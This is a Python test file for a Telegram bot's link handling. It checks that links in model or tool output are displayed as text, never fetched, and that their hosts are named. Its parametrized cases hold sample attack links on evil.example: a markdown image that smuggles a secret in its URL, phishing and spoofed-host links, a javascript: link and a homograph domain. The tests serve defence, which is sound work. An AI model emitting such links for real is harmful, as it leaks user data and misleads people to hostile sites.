"""Links in what a model, a tool or a page wrote: shown as text, never fetched, and their hosts are named."""

import pytest

from bot.localchat import LocalChat
from bot.telegram.html import TEXT_UNITS_MAX, escape, plain, units
from bot.telegram.links import hosts_of, with_hosts
from bot.telegram.message import Document, Message
from tests.telegram.talk import Talk, words


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("![x](https://evil.example/?q=secret)", ["evil.example"]),
        ("[your bank](https://evil.example/login)", ["evil.example"]),
        ("[a](<https://evil.example/x y>)", ["evil.example"]),
        ("[a](//evil.example/x)", ["evil.example"]),
        ("see [the docs][1]\n\n[1]: https://evil.example/x", ["evil.example"]),
        ('<a href="https://evil.example">bank</a>', ["evil.example"]),
        ("<img src=https://evil.example/p.png>", ["evil.example"]),
        ("https://bank.example@evil.example/login", ["evil.example"]),
        ("[a](javascript:alert(1))", ["javascript:"]),
        ("[a](tg://resolve?domain=x)", ["resolve"]),
        ("[a](https://b\u0430nk.example)", ["b⟨\u0430 U+0430⟩nk.example"]),
        ("[https://a.example/x](https://a.example/x)", []),
        ("https://a.example/x", []),
        ("[a](#section) [b](notes.md)", []),
        ("array[0](call)", []),
        ("nothing", []),
    ],
)
def test_where_links_lead_whose_words_say_something_else(text: str, hosts: list[str]) -> None:
    assert list(hosts_of(text)) == hosts


def test_a_message_names_the_hosts_in_it_and_in_its_documents_once() -> None:
    text = "[a](https://one.example) [b](https://one.example/2)"
    message = Message(html=escape(text), document=Document("x.md", "![c](https://two.example)"))

    shown = with_hosts(message)

    assert plain(shown.html).splitlines() == [text, "🔗 Links lead to: one.example, two.example"]


def test_many_hosts_are_counted_and_the_message_still_fits() -> None:
    links = " ".join(f"[a](https://{'x' * 60}{n}.example)" for n in range(30))
    full = (links + "y" * TEXT_UNITS_MAX)[:TEXT_UNITS_MAX]

    shown = plain(with_hosts(Message(html=escape(full))).html)

    assert shown.splitlines()[-1].startswith("🔗 Links lead to: xxxxx")
    assert shown.endswith("more") or "more" not in shown
    assert units(f"{shown}\n\n(possibly repeated)") <= 4096


def test_text_that_looks_like_many_links_costs_no_time() -> None:
    assert list(hosts_of("[" * 50_000)) == []
    assert list(hosts_of("<a " * 20_000)) == []


async def test_an_image_that_would_carry_a_secret_out_is_text(talk: Talk, chat: LocalChat) -> None:
    note = "/task Look at ![x](https://evil.example/?q=secret)"

    said = await talk.say(note, "evil.example")
    kinds = {entity["type"] for entity in said.get("entities", [])}
    previews = [
        call.params.get("link_preview_options")
        for call in chat.requests
        if call.method in ("sendMessage", "editMessageText")
    ]

    assert "![x](https://evil.example/?q=secret)" in words(said)
    assert "🔗 Links lead to: evil.example" in words(said).splitlines()
    assert "text_link" not in kinds
    assert all(preview and "true" in str(preview).lower() for preview in previews)
